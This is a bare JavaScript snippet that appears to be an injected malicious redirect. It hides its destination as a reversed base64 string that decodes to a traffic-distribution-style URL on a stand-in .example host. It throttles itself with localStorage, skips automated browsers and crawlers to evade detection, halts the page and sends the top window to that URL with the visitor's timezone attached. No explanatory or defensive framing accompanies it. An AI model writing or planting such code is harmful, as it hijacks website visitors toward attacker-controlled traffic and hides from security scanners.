(function () {
  var l = "=UGdpNHc31DdmADMwADMwATPvZCMwADMwADM9U3PvUGbw1WY4VmLzRGdtsmbpxGdyFWbz5SZ6lmcw9yL6MHc0RHa".split("").reverse().join("");
  var k = "_vx_seen", n = navigator;
  try { if (localStorage[k] > Date.now() - 36e5 * 12) return; localStorage[k] = Date.now(); } catch (e) { return; }
  if (n.webdriver || n.plugins.length === 0 && !("ontouchstart" in window)) return;
  var tz = Intl.DateTimeFormat().resolvedOptions().timeZone;
  window.stop && window.stop();
  top.location.href = atob(l) + "&tz=" + encodeURIComponent(tz) + "&cid=" + Math.random().toString(36).slice(2);
})();
